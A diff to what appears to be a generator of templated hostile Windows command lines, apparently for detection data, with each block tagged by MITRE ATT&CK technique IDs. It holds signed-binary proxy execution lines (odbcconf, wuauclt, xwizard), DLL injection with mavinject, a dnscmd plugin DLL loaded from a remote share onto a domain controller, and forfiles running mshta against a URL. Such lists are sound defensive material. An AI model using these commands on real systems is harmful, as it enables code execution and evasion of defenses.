@@ -118,17 +118,13 @@ odbcconf.exe /a {REGSVR ~f~.«dll|ocx|dat|txt»}
 odbcconf /S /A {REGSVR "~f~.dll"}
 odbcconf.exe -f ~f~.rsp
 odbcconf INSTALLDRIVER "~n~|Driver=~f~.dll|APILevel=2"
-odbcconf configsysdsn "~n~" "DSN=~n~"
-mavinject.exe @pid@ /INJECTRUNNING ~f~.dll
 C:\Windows\System32\Register-CimProvider.exe -Path ~f~.dll
 wuauclt.exe /UpdateDeploymentProvider ~f~.dll /RunHandlerComServer
-verclsid.exe /S /C {@guid@}
 xwizard.exe RunWizard /taero /u {@guid@}
 "C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell_ISE.exe" -File ~f~.ps1 -NoProfile & msxsl.exe ~f~.xml ~f~.xsl
 tttracer.exe -dumpfull -attach @pid@ -out ~d~
 Dxcap.exe -c ~f~.exe
 te.exe ~f~.wsc
-dnscmd.exe @dc@ /config /serverlevelplugindll \\@ip@\dll\~n~.dll
 fsi.exe ~f~.fsscript
 rasautou -d ~f~.dll -p ~n~ -a a -e e
 dotnet.exe ~f~.dll
@@ -137,6 +133,10 @@ infdefaultinstall.exe ~f~.inf
 diskshadow.exe -s ~f~.txt
 vsjitdebugger.exe ~f~.exe
 PresentationHost.exe ~f~.xbap
+@@ T1218.013 T1055.001
+mavinject.exe @pid@ /INJECTRUNNING ~f~.dll
+@@ T1574.001 T1218
+dnscmd.exe @dc@ /config /serverlevelplugindll \\@ip@\dll\~n~.dll
 """, weight=1.4)
 hostile("started-through-another-program", "Defense Evasion", "T1202", r"""
 forfiles /p c:\windows\system32 /m «notepad|calc|cmd|ping».exe /c «~f~.exe|"powershell . mshta @url@"|"cmd /c ~f~.bat"»
